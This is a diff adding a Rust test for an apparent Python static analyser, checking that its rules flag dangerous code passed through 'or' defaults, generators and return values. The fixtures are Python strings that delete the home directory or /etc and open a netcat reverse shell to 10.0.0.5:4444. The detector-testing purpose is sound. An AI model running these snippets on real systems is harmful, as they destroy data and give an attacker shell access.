@@ -319,3 +319,25 @@ fn decorators_are_called_and_closures_keep_what_they_captured() {
         "import shutil\ndef make(p):\n    def run():\n        shutil.rmtree(p)\n    return run\nmake('/etc')()\n",
     );
 }
+
+#[test]
+fn or_and_generators_and_several_returns_keep_their_values() {
+    // `x or default`, a generator's yields and a function that returns a value or None
+    // carry what they hold to the call that uses it.
+    fires(
+        "CRD104",
+        "import shutil\nfrom pathlib import Path\ndef wipe(root=None):\n    root = root or Path.home()\n    shutil.rmtree(root)\nwipe()\n",
+    );
+    fires(
+        "CRD104",
+        "from pathlib import Path\ndef targets(root):\n    for p in root.rglob('*'):\n        if p.is_file():\n            yield p\nfor p in targets(Path.home()):\n    p.unlink()\n",
+    );
+    fires(
+        "CRD101",
+        "import subprocess, shutil\ndef pick():\n    if shutil.which('nc'):\n        return ['nc', '-e', '/bin/sh', '10.0.0.5', '4444']\n    return None\nsubprocess.Popen(pick())\n",
+    );
+    silent(
+        "CRD104",
+        "import shutil, tempfile\ndef scratch(d=None):\n    return d or tempfile.mkdtemp()\nshutil.rmtree(scratch())\n",
+    );
+}
